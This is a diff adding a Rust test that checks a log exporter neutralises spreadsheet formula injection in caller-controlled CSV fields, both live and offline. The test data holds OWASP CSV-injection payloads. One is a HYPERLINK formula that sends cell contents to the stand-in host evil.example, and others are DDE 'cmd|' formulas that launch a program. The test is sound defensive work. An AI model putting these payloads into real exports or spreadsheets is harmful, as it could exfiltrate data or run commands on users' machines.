@@ -553,3 +553,96 @@ fn the_export_command_builds_the_same_slices_offline_from_raw_logs_or_the_archiv
     assert_eq!(bad.status.code(), Some(64));
     assert!(String::from_utf8_lossy(&bad.stderr).contains("--slice-minutes"));
 }
+
+/// Values an API caller controls that a spreadsheet would run as a
+/// formula (OWASP's CSV injection payloads), by column index in the
+/// export, with a numeric column's negative number and an absent value
+/// that must stay as they are.
+const FORMULAS: [(usize, &str, &str); 5] = [
+    (9, "user_agent", "=HYPERLINK(\"http://evil.example/?\"&A1,\"help\")"),
+    (8, "referrer", "+1+cmd|' /C calc'!A0"),
+    (4, "uri", "-2+3+cmd|' /C calc'!A0?q=@SUM(1)"),
+    (0, "request_host_name", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    (12, "api_key", "\t=1+1"),
+];
+
+/// A raw line carrying the payloads of [`FORMULAS`] (and a carriage
+/// return one), a negative `quota_value` and an absent `http_version`.
+fn formula_line(uuid: &str, iso: &str) -> String {
+    let mut v = serde_json::json!({
+        "request_uuid": uuid,
+        "request_time": iso,
+        "method": "GET",
+        "status": "200",
+        "bytes": "113",
+        "exec_time": "0.012",
+        "quota_value": "-1",
+        "http_version": "-",
+        "oauth_access_token": "\r=2+2",
+    });
+    for (_, key, payload) in FORMULAS {
+        v[key] = payload.into();
+    }
+    format!("{v}\n")
+}
+
+/// True when a spreadsheet would run `cell` as a formula.
+fn runs_as_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell != "-" && cell.parse::<f64>().is_err()
+}
+
+/// Checks the rows of an export file: with `neutralised`, every payload is
+/// its value behind a `'` and no cell would run; without, the values are
+/// as they came.
+fn check_formula_rows(path: &Path, neutralised: bool) -> usize {
+    let rows = read_csv(path);
+    // Quoted on disk: a neutralised cell is written `"'=..."`.
+    let mut raw = String::new();
+    flate2::read::MultiGzDecoder::new(fs::File::open(path).unwrap()).read_to_string(&mut raw).unwrap();
+    for row in &rows[1..] {
+        for (i, key, payload) in FORMULAS {
+            let want = if neutralised { format!("'{payload}") } else { payload.to_string() };
+            assert_eq!(row[i], want, "{key} in {row:?}");
+        }
+        assert_eq!(row[22], if neutralised { "'\r=2+2" } else { "\r=2+2" }, "oauth_access_token (a carriage return)");
+        assert_eq!(row[24], "-1", "a negative number in a numeric column stays a number");
+        assert_eq!(row[5], "-", "`-` alone is the schema's absent value");
+        assert_eq!(row[6], "113");
+        let running: Vec<&String> = row.iter().filter(|c| runs_as_formula(c)).collect();
+        if neutralised {
+            assert!(running.is_empty(), "cells a spreadsheet would run: {running:?}");
+        } else {
+            assert_eq!(running.len(), FORMULAS.len() + 1, "{running:?}");
+        }
+    }
+    if neutralised {
+        assert!(raw.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"help\"\")\""), "quoted, quotes doubled: {raw}");
+    }
+    rows.len() - 1
+}
+
+#[test]
+fn spreadsheet_formulas_in_caller_text_are_neutralised_live_and_offline() {
+    // Live: the sink.
+    let mut ex = Ex::new("close_after_secs = 1\n");
+    ex.start();
+    let text: String = (0..5).map(|i| formula_line(&format!("f-{i}"), "2026-11-29T10:00:05Z")).collect();
+    let mut f = OpenOptions::new().create(true).append(true).open(ex.dir.path().join("logs/access.log")).unwrap();
+    f.write_all(text.as_bytes()).unwrap();
+    let name = "calllog-2026-11-29T10-00Z.csv.gz";
+    ex.wait_published(&[name]);
+    assert_eq!(check_formula_rows(&ex.export.join(name), true), 5);
+    ex.stop();
+
+    // Offline: the `export` command, by default and with the raw values
+    // asked for.
+    let input = ex.dir.path().join("logs/access.log");
+    for (flags, neutralised) in [(&[][..], true), (&["--no-escape-formulas"][..], false)] {
+        let to = ex.dir.path().join(format!("offline-{neutralised}"));
+        let mut c = support::cmd();
+        c.args(["export", "--from", "2026-11-29T10:00:00Z", "--to", "2026-11-29T11:00:00Z", "--dir"]).arg(&to).args(flags).arg(&input);
+        let out = c.output().unwrap();
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+        assert_eq!(check_formula_rows(&to.join(name), neutralised), 5, "{flags:?}");
+    }
+}
